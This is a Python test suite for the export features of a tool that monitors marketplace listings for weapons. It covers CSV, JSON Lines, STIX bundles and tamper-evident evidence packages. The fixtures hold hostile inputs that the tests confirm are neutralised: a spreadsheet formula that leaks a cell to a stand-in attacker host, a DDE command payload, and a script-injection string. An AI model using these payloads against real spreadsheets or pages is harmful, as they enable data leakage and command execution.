"""Exports of listings from a real SQLite store: CSV and JSON Lines round trips with
hostile listing text, STIX 2.1 bundles validated by the stix2 library, case evidence
packages with real kept evidence whose hashes verify (and tampering that does not),
and `armswatch export` end to end in a child process, audited."""

from __future__ import annotations

import csv
import getpass
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import stix2

from armswatch import LABELS, __version__
from armswatch.cli.export import PAGE
from armswatch.evidence import Capture, EvidenceLocker
from armswatch.export import (
    FORMATS,
    PackageError,
    stix_bundle,
    verify_package,
    write_case_package,
    write_csv,
    write_export,
    write_jsonl,
)
from armswatch.listing import Attachment, Listing
from armswatch.stores import Review, Store
from armswatch.workspace import Workspace, workspace_path
from tests.conftest import CLI_STORES, CliStore, cli_store, run_cli
from tests.listings import T0, T1, T2, fill, make

A, B, C, D = "a" * 32, "b" * 32, "c" * 32, "d" * 32
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HOSTILE_TEXT = '<script>alert("owned")</script> 9mm pistol, two magazines'
QUOTED_URL = "https://market.example/item/a?ref='x'&back=\\"
CASE = "Operation Fennec"
CASE_DESCRIPTION = "Seller @dealer <b>and</b> friends & co"
ACTOR = f"cli:{getpass.getuser()}"


def listings() -> list[Listing]:
    """Two flagged listings by one seller (hostile text, an attachment, a url that
    needs escaping in a STIX pattern), one unflagged, one flagged that an analyst
    judged a false positive."""
    return [
        make(
            A,
            url=QUOTED_URL,
            title=HOSTILE_TITLE,
            text=HOSTILE_TEXT,
            seller="@dealer",
            price=950.0,
            currency="EUR",
            lang="en",
            last_seen=T1,
            labels=["firearm"],
            scores={"firearm": 0.93, "parts": 0.41},
            threat_score=0.93,
            classifier_version="t-1",
            attachments=[
                Attachment("manual.pdf", "https://market.example/files/manual.pdf", "pdf", "2 MB")
            ],
        ),
        make(
            B,
            title="\tTab first",
            text="-5% today only",
            seller="@dealer",
            lang="en",
            labels=["parts"],
            scores={"parts": 0.77},
            threat_score=0.77,
            classifier_version="t-1",
        ),
        make(C, title="Heat gun 2000W", text="for shrink wrap", seller="quiet_shop", lang="de"),
        make(
            D,
            title=" +49 crates",
            text="bulk",
            seller="bulkammo",
            labels=["ammunition"],
            scores={"ammunition": 0.66},
            threat_score=0.66,
        ),
    ]


REVIEWS = [
    Review(A, "follow_up", "alice", T1),
    Review(A, "confirmed", "alice", T2, ("firearm", "parts"), "=cmd|' /C calc'!A0"),
    Review(D, "false_positive", "bob", T2, note="cartridge boxes, empty"),
]


def verdicts() -> dict[str, Review]:
    return {review.listing_id: review for review in REVIEWS}


def keep_evidence(data_dir: Path, listing: Listing) -> None:
    """Keep the listing's page as a crawl does: the raw body, and a WARC of it."""
    locker = EvidenceLocker(data_dir)
    body = f"<html><h1>{listing.title}</h1><p>{listing.text}</p></html>".encode()
    listing.raw_sha256 = locker.raw.save(body)
    capture = Capture(
        url=listing.url,
        method="GET",
        request_headers=[("User-Agent", "armswatch-test/1"), ("Cookie", "session=secret")],
        request_body=b"",
        protocol="HTTP/1.1",
        status=200,
        response_headers=[("Content-Type", "text/html; charset=utf-8")],
        raw_sha256=listing.raw_sha256,
        captured_at=T0,
    )
    assert [e.kind for e in locker.record(listing, capture, warc=True)] == ["raw_page", "warc"]


@dataclass
class Filled:
    cli: CliStore
    listings: list[Listing]

    @property
    def data_dir(self) -> Path:
        return self.cli.data_dir

    def run(self, *args: str | Path) -> Any:
        return run_cli("--data-dir", self.data_dir, "export", *args, env=self.cli.env)

    def audit(self) -> list[Any]:
        with Workspace.open(workspace_path(self.data_dir)) as workspace:
            return workspace.audit.entries(action="export")


@pytest.fixture
def filled(tmp_path: Path) -> Iterator[Filled]:
    """The listings in a SQLite store, evidence kept for A, the reviews recorded, and
    the case (A, B, D) in the workspace."""
    with cli_store("sqlite", tmp_path) as cli:
        stored = listings()
        keep_evidence(cli.data_dir, stored[0])
        store = cli.open()
        fill(store, *stored)
        for review in REVIEWS:
            store.add_review(review)
        kept = [store.get(listing.id) for listing in stored]
        store.close()
        with Workspace.open(workspace_path(cli.data_dir)) as workspace:
            case = workspace.cases.create(CASE, "alice", CASE_DESCRIPTION)
            for listing_id in (A, B, D):
                workspace.cases.add(case.id, listing_id, "alice")
        yield Filled(cli, [listing for listing in kept if listing is not None])


def from_store(filled: Filled) -> tuple[list[Listing], dict[str, Review]]:
    store: Store = filled.cli.open()
    try:
        stored = [store.get(listing_id) for listing_id in (A, B, C, D)]
        latest = {review.listing_id: review for review in store.reviews()}
    finally:
        store.close()
    assert all(stored)
    return [listing for listing in stored if listing is not None], latest


# -- CSV and JSON Lines ---------------------------------------------------------------


def test_csv_round_trip_neutralises_formulas(filled: Filled) -> None:
    stored, latest = from_store(filled)
    out = io.StringIO(newline="")
    assert write_csv(stored, out, latest) == 4
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["id"] for row in rows] == [A, B, C, D]
    a, b, c, d = rows
    # Cells a spreadsheet would evaluate start with an apostrophe, the rest is kept.
    assert a["title"] == "'" + HOSTILE_TITLE
    assert a["seller"] == b["seller"] == "'@dealer"
    assert a["verdict_note"] == "'=cmd|' /C calc'!A0"
    assert b["title"] == "'\tTab first" and b["text"] == "'-5% today only"
    assert d["title"] == "' +49 crates"
    assert a["text"] == HOSTILE_TEXT  # not a formula: CSV is not HTML, kept as written
    assert c["title"] == "Heat gun 2000W" and c["seller"] == "quiet_shop"
    # Numbers are exact; labels, scores and the analyst's verdict have their columns.
    assert float(a["price"]) == 950.0 and a["currency"] == "EUR"
    assert float(a["threat_score"]) == 0.93 and a["classifier_version"] == "t-1"
    assert [float(a[f"score_{label}"]) for label in LABELS] == [0.93, 0.41, 0.0, 0.0]
    assert a["labels"] == "firearm" and b["labels"] == "parts" and c["labels"] == ""
    assert (a["first_seen"], a["last_seen"]) == (T0, T1)
    assert json.loads(a["attachments"]) == [
        {
            "name": "manual.pdf",
            "url": "https://market.example/files/manual.pdf",
            "ext": "pdf",
            "size": "2 MB",
        }
    ]
    assert (a["verdict"], a["verdict_labels"], a["analyst"], a["reviewed_at"]) == (
        "confirmed",
        "firearm; parts",
        "alice",
        T2,
    )  # the latest review, not the follow-up before it
    assert (d["verdict"], d["analyst"], d["verdict_note"]) == (
        "false_positive",
        "bob",
        "cartridge boxes, empty",
    )
    assert b["verdict"] == c["verdict"] == c["price"] == c["attachments"] == ""


def test_jsonl_round_trip_keeps_text_exactly(filled: Filled) -> None:
    stored, latest = from_store(filled)
    out = io.StringIO()
    assert write_jsonl(stored, out, latest) == 4
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["id"] for r in records] == [A, B, C, D]
    a, b, c, d = records
    assert a["title"] == HOSTILE_TITLE and a["text"] == HOSTILE_TEXT and a["url"] == QUOTED_URL
    assert b["title"] == "\tTab first" and a["seller"] == "@dealer"
    assert a["scores"] == {"firearm": 0.93, "parts": 0.41, "ammunition": 0.0, "blueprints": 0.0}
    assert (a["labels"], a["threat_score"], a["price"], a["lang"]) == (
        ["firearm"],
        0.93,
        950.0,
        "en",
    )
    assert a["attachments"][0]["url"] == "https://market.example/files/manual.pdf"
    assert a["review"] == {
        "verdict": "confirmed",
        "labels": ["firearm", "parts"],
        "note": "=cmd|' /C calc'!A0",
        "analyst": "alice",
        "reviewed_at": T2,
    }
    assert d["review"]["verdict"] == "false_positive"
    assert b["review"] is None and c["review"] is None
    assert c["price"] is None and c["labels"] == []


def test_write_export_dispatches_by_format(filled: Filled) -> None:
    stored, latest = from_store(filled)
    assert FORMATS == ("csv", "jsonl", "stix")
    direct, dispatched = io.StringIO(), io.StringIO()
    write_jsonl(stored, direct, latest)
    assert write_export("jsonl", stored, dispatched, latest) == 4
    assert dispatched.getvalue() == direct.getvalue()
    stix_out = io.StringIO()
    assert write_export("stix", stored, stix_out, latest) == 4
    assert json.loads(stix_out.getvalue())["type"] == "bundle"
    with pytest.raises(ValueError, match="choose one of csv, jsonl, stix"):
        write_export("xlsx", stored, io.StringIO())


# -- STIX 2.1 -------------------------------------------------------------------------


def parsed(bundle: stix2.Bundle) -> dict[str, Any]:
    """The bundle as a consumer reads it (strict: no custom properties), by id."""
    back = stix2.parse(bundle.serialize(), allow_custom=False)
    objects = {obj.id: obj for obj in back.objects}
    assert len(objects) == len(back.objects), "an object is in the bundle twice"
    return objects


def refs(obj: Any) -> list[str]:
    found = []
    for name, value in obj.items():
        if name.endswith("_ref"):
            found.append(value)
        elif name.endswith("_refs"):
            found += value
    return found


def of_type(objects: dict[str, Any], kind: str) -> list[Any]:
    return [obj for obj in objects.values() if obj.type == kind]


def test_stix_bundle_validates_and_links_everything(filled: Filled) -> None:
    stored, latest = from_store(filled)
    objects = parsed(stix_bundle(stored, latest))
    for obj in objects.values():
        for ref in refs(obj):
            assert ref in objects, f"{obj.id} refers to {ref}, which is not in the bundle"
    armswatch = next(o for o in of_type(objects, "identity") if o.name == "armswatch")
    assert all(
        o.created_by_ref == armswatch.id
        for o in objects.values()
        if o.type not in ("url",) and o.id != armswatch.id
    )

    observed = of_type(objects, "observed-data")
    assert len(observed) == 4
    urls = {o.value for o in of_type(objects, "url")}
    assert urls == {listing.url for listing in stored} | {"https://market.example/files/manual.pdf"}

    # Flagged: A (the analyst's labels), B (the model's); D was judged a false positive.
    indicators = {o.external_references[0].external_id: o for o in of_type(objects, "indicator")}
    assert set(indicators) == {A, B}
    assert indicators[A].labels == ["firearm", "parts"] and indicators[B].labels == ["parts"]
    assert indicators[A].confidence == 93 and indicators[B].confidence == 77
    assert (
        indicators[A].pattern
        == "[url:value = 'https://market.example/item/a?ref=\\'x\\'&back=\\\\']"
    )
    assert indicators[A].valid_from.isoformat() == "2026-11-20T10:00:00+00:00"
    assert indicators[A].name == HOSTILE_TITLE

    # Sellers: @dealer (flagged listings) a threat-actor, the others identities.
    actors = of_type(objects, "threat-actor")
    assert [a.name for a in actors] == ["@dealer"]
    sellers = {o.name for o in of_type(objects, "identity")} - {"armswatch"}
    assert sellers == {"quiet_shop", "bulkammo"}
    relations = {
        (objects[r.source_ref].type, r.relationship_type, objects[r.target_ref].type)
        for r in of_type(objects, "relationship")
    }
    assert relations == {
        ("observed-data", "related-to", "threat-actor"),
        ("observed-data", "related-to", "identity"),
        ("indicator", "based-on", "observed-data"),
        ("indicator", "indicates", "threat-actor"),
    }
    assert sum(r.relationship_type == "indicates" for r in of_type(objects, "relationship")) == 2

    # The analyst's confirmation is an opinion on the indicator; notes carry the text.
    (opinion,) = of_type(objects, "opinion")
    assert opinion.opinion == "strongly-agree" and opinion.authors == ["alice"]
    assert opinion.object_refs == [indicators[A].id]
    notes = {o.abstract: o for o in of_type(objects, "note")}
    assert HOSTILE_TEXT in notes[HOSTILE_TITLE].content
    assert "false_positive by bob" in notes[" +49 crates"].content


def test_stix_ids_are_the_same_on_every_export(filled: Filled) -> None:
    stored, latest = from_store(filled)
    first = set(parsed(stix_bundle(stored, latest)))
    again = set(parsed(stix_bundle(stored, latest)))
    assert first == again
    alone = set(parsed(stix_bundle([stored[0]], latest)))
    # Exported alone, listing A keeps its ids (its seller too: still flagged).
    assert alone <= first
    assert any(i.startswith("indicator--") for i in alone)
    assert any(i.startswith("threat-actor--") for i in alone)


def test_stix_refuses_a_listing_never_seen(filled: Filled) -> None:
    unseen = Listing(id="e" * 32, source="demo-market", url="https://market.example/e")
    with pytest.raises(ValueError, match="no time it was seen"):
        stix_bundle([unseen])


# -- case evidence packages -----------------------------------------------------------


def package(filled: Filled, out: Path) -> Any:
    stored, latest = from_store(filled)
    store = filled.cli.open()
    try:
        versions = {listing.id: store.versions(listing.id) for listing in stored}
    finally:
        store.close()
    case = [stored[0], stored[1], stored[3]]
    return write_case_package(
        CASE,
        case,
        EvidenceLocker(filled.data_dir),
        out,
        exported_by="alice",
        description=CASE_DESCRIPTION,
        versions=versions,
        verdicts=latest,
    )


def test_package_holds_evidence_and_verifies(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "case.zip"
    report = package(filled, out)
    assert (report.path, report.listings, report.without_evidence) == (out, 3, [B, D])
    assert verify_package(out) == []
    with zipfile.ZipFile(out) as zf:
        names = set(zf.namelist())
        manifest = json.loads(zf.read("MANIFEST.json"))
        sums = zf.read("SHA256SUMS").decode()
        evidence = json.loads(zf.read(f"evidence/{A}/manifest.json"))
        summary = zf.read(f"evidence/{A}/summary.txt").decode()
        page = zf.read("index.html").decode()
        csv_text = zf.read("listings.csv").decode("utf-8-sig")
        jsonl = zf.read("listings.jsonl").decode()
        stix_json = zf.read("bundle.stix.json").decode()
    assert report.files == len(names)
    # A's evidence bundle, as 'armswatch evidence' writes it: files at their paths.
    kinds = {entry["kind"]: entry["path"] for entry in evidence["files"]}
    assert set(kinds) == {"raw_page", "warc"}
    for path in (*kinds.values(), "manifest.json", "SHA256SUMS", "summary.txt"):
        assert f"evidence/{A}/{path}" in names
    assert "All 2 file(s) match manifest.json" in summary
    assert not any(name.startswith((f"evidence/{B}", f"evidence/{D}")) for name in names)
    # The manifest lists every file but itself and SHA256SUMS, which lists them all.
    assert {f["path"] for f in manifest["files"]} == names - {"MANIFEST.json", "SHA256SUMS"}
    assert {line.split("  ", 1)[1] for line in sums.splitlines()} == names - {"SHA256SUMS"}
    assert manifest["case"] == {"name": CASE, "description": CASE_DESCRIPTION}
    assert (manifest["exported_by"], manifest["armswatch_version"]) == ("alice", __version__)
    assert [(e["id"], e["evidence"]) for e in manifest["listings"]] == [
        (A, f"evidence/{A}/"),
        (B, None),
        (D, None),
    ]
    # The listings in every format.
    assert [row["id"] for row in csv.DictReader(io.StringIO(csv_text))] == [A, B, D]
    assert [json.loads(line)["id"] for line in jsonl.splitlines()] == [A, B, D]
    assert len(of_type(parsed(stix2.parse(stix_json, allow_custom=False)), "indicator")) == 2
    # The index page shows crawled text as text and runs nothing.
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in page
    assert "&lt;b&gt;and&lt;/b&gt; friends &amp; co" in page
    assert "default-src 'none'" in page
    assert f'href="evidence/{A}/summary.txt"' in page
    assert QUOTED_URL.replace("'", "&#39;").replace("&back", "&amp;back") in page
    assert 'href="https://' not in page  # crawled addresses are never links


def rewrite(
    path: Path, change: dict[str, bytes | None], add: dict[str, bytes] | None = None
) -> None:
    """The package with members replaced (None: removed) or added, as someone might."""
    with zipfile.ZipFile(path) as zf:
        members = {name: zf.read(name) for name in zf.namelist()}
    for name, data in change.items():
        if data is None:
            del members[name]
        else:
            members[name] = data
    members |= add or {}
    path.unlink()
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def test_a_tampered_package_is_detected(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "case.zip"
    package(filled, out)
    with zipfile.ZipFile(out) as zf:
        evidence = json.loads(zf.read(f"evidence/{A}/manifest.json"))
        raw = f"evidence/{A}/" + next(
            e["path"] for e in evidence["files"] if e["kind"] == "raw_page"
        )
        jsonl = zf.read("listings.jsonl")
    rewrite(out, {"listings.jsonl": jsonl.replace(b"@dealer", b"@someone")})
    problems = verify_package(out)
    assert len(problems) == 2 and all(p.startswith("listings.jsonl: ") for p in problems)
    assert "differs from MANIFEST.json" in problems[0] and "SHA256SUMS" in problems[1]

    rewrite(out, {raw: None}, add={"extra.exe": b"MZ"})
    problems = verify_package(out)
    assert f"{raw}: listed in MANIFEST.json but missing" in problems
    assert "extra.exe: not listed in MANIFEST.json" in problems

    out.write_bytes(b"not a zip")
    assert "cannot be read as a ZIP file" in verify_package(out)[0]


def test_a_package_is_never_written_over_a_file(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "case.zip"
    out.write_bytes(b"earlier work")
    with pytest.raises(FileExistsError):
        package(filled, out)
    assert out.read_bytes() == b"earlier work"


def test_damaged_evidence_writes_no_package(filled: Filled, tmp_path: Path) -> None:
    manifest = EvidenceLocker(filled.data_dir).read(A)
    assert manifest is not None
    warc = filled.data_dir / next(e.path for e in manifest.files if e.kind == "warc")
    warc.write_bytes(warc.read_bytes() + b"\0")
    out = tmp_path / "case.zip"
    with pytest.raises(
        PackageError, match=re.escape(f"1 evidence file(s) of listing {A} do not match")
    ):
        package(filled, out)
    assert not out.exists()
    assert not list(tmp_path.glob(".armswatch-package-*"))  # nothing left behind


# -- the command line -----------------------------------------------------------------


def test_cli_exports_a_search_a_case_and_ids(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "flagged.csv"
    result = filled.run("csv", "--label", "firearm", "--label", "parts", "-o", out)
    assert result.returncode == 0, result.stderr
    assert f"2 listing(s) written to {out} as csv" in result.stdout
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 mark: spreadsheets read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {row["id"] for row in rows} == {A, B}
    assert rows[0]["title"].startswith("'=HYPERLINK(")

    result = filled.run("stix", "--case", CASE, "-o", "-")
    assert result.returncode == 0, result.stderr
    objects = parsed(stix2.parse(result.stdout, allow_custom=False))
    observed = of_type(objects, "observed-data")
    assert {o.external_references[0].external_id for o in observed} == {A, B, D}
    assert "3 listing(s) written to standard output as stix" in result.stderr

    ids = tmp_path / "ids.txt"
    ids.write_text(f"# picked by hand\n{C[:12]}\n\n{A}\n{C}\n", encoding="utf-8")
    result = filled.run("jsonl", "--ids", ids, "-o", "-")
    assert result.returncode == 0, result.stderr
    assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [C, A]

    entries = filled.audit()
    assert [
        (e.actor, e.detail["format"], e.detail["what"], e.detail["count"]) for e in entries
    ] == [
        (ACTOR, "csv", "search", 2),
        (ACTOR, "stix", "case", 3),
        (ACTOR, "jsonl", "selection", 2),
    ]
    assert entries[0].detail["query"] == {"labels": ["firearm", "parts"]}
    assert entries[1].detail["case"] == CASE and entries[2].detail["ids"] == [C, A]


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("csv", "--case", "Operation Nowhere", "-o", "-"), 3, "the cases are 'Operation Fennec'"),
        (("csv", "--case", CASE, "--label", "firearm", "-o", "-"), 2, "one way"),
        (("jsonl", "--sort", "newest", "--ids", "-", "-o", "-"), 2, "one way"),
        (("csv", "--label", "knives", "-o", "-"), 2, "Invalid value for '--label'"),
        (("package", "Operation Nowhere", "-o", "x.zip"), 3, "no case 'Operation Nowhere'"),
    ],
)
def test_cli_refuses_bad_requests(
    filled: Filled, args: tuple[str, ...], code: int, message: str
) -> None:
    result = filled.run(*args)
    assert result.returncode == code, result.stderr
    assert message in result.stderr
    assert result.stdout == "" and filled.audit() == []


def test_cli_never_writes_over_a_file_and_names_unknown_ids(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    out.write_text("earlier work\n", encoding="utf-8")
    result = filled.run("jsonl", "-o", out)
    assert result.returncode == 2 and "already exists" in result.stderr
    assert out.read_text(encoding="utf-8") == "earlier work\n"

    ids = tmp_path / "ids.txt"
    ids.write_text(f"{A}\n{'f' * 32}\n", encoding="utf-8")
    fresh = tmp_path / "fresh.jsonl"
    result = filled.run("jsonl", "--ids", ids, "-o", fresh)
    assert result.returncode == 3 and f"no listing with id {'f' * 32!r}" in result.stderr
    assert not fresh.exists() and filled.audit() == []


def test_cli_package_verifies_and_detects_tampering(filled: Filled, tmp_path: Path) -> None:
    out = tmp_path / "fennec.zip"
    result = filled.run("package", CASE, "-o", out)
    assert result.returncode == 0, result.stderr
    assert "every file matches" in result.stdout
    assert f"Case '{CASE}': 3 listing(s)" in result.stdout
    assert "no evidence is kept for 2 listing(s)" in result.stderr and B in result.stderr
    with zipfile.ZipFile(out) as zf:
        manifest = json.loads(zf.read("MANIFEST.json"))
    assert manifest["exported_by"] == ACTOR
    (entry,) = filled.audit()
    assert (entry.actor, entry.detail["format"], entry.detail["case"]) == (ACTOR, "package", CASE)
    assert filled.run("package", CASE, "-o", out).returncode == 2  # never over another

    result = filled.run("verify", out)
    assert result.returncode == 0 and "every file matches" in result.stdout
    rewrite(out, {"index.html": b"<html>changed</html>"})
    result = filled.run("verify", out)
    assert result.returncode == 6
    assert "index.html: SHA-256" in result.stderr and "does not verify" in result.stderr


def test_cli_package_refuses_damaged_evidence(filled: Filled, tmp_path: Path) -> None:
    manifest = EvidenceLocker(filled.data_dir).read(A)
    assert manifest is not None
    raw = filled.data_dir / next(e.path for e in manifest.files if e.kind == "raw_page")
    raw.write_bytes(b"changed")
    out = tmp_path / "fennec.zip"
    result = filled.run("package", CASE, "-o", out)
    assert result.returncode == 6
    assert (
        "do not match its manifest" in result.stderr and "No package was written" in result.stderr
    )
    assert not out.exists() and filled.audit() == []


@pytest.mark.parametrize("kind", CLI_STORES)
def test_cli_exports_every_page_of_a_search(kind: str, tmp_path: Path) -> None:
    """More matches than one page holds: every one is exported, once, from either store."""
    with cli_store(kind, tmp_path) as cli:
        many = [
            make(f"{i:032x}", title=f"listing {i}", labels=["firearm"], threat_score=i / 2000)
            for i in range(PAGE + 2)
        ]
        store = cli.open()
        fill(store, *many, make("e" * 32, title="not flagged"))
        store.close()
        result = run_cli(
            "--data-dir",
            cli.data_dir,
            "export",
            "jsonl",
            "--label",
            "firearm",
            "-o",
            "-",
            env=cli.env,
        )
    assert result.returncode == 0, result.stderr
    got = [json.loads(line)["id"] for line in result.stdout.splitlines()]
    assert len(got) == len(set(got)) == PAGE + 2
    assert got[0] == f"{PAGE + 1:032x}"  # relevance without words: highest score first
